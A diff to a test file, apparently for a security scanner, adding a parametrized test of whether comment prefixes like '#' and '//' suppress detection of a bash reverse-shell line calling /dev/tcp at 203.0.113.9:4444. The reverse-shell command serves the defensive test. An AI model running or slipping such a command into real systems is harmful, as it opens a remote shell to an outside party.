@@ -95,3 +95,21 @@ def test_rules_say_type_score_and_source() -> None:
 def test_rules_compile_without_a_problem() -> None:
     assert {name: compiled.problems for name, compiled in own_rules().items() if compiled.problems} == {}
     assert set(own_rules()) == set(SETS)
+
+
+@pytest.mark.parametrize(
+    ("path", "start", "found"),
+    [
+        ("srv/run", "", True),
+        ("srv/run", "//usr/", True),
+        ("srv/run.sh", "//usr/", True),
+        ("srv/run", "# ", False),
+        ("srv/a.js", "// ", False),
+        ("srv/run", "#!/usr/bin/env node\n// ", False),
+        ("srv/a.inc.bak", "// ", False),
+    ],
+)
+def test_slashes_begin_a_comment_where_the_language_has_such(path: str, start: str, found: bool) -> None:
+    text = start + "bin/bash -i >& " + "/dev/tcp" + "/203.0.113.9/4444 0>&1\n"
+    hits, _ = scanned().scan(text.encode(), ("script",), path, text=True)
+    assert bool(hits) == found
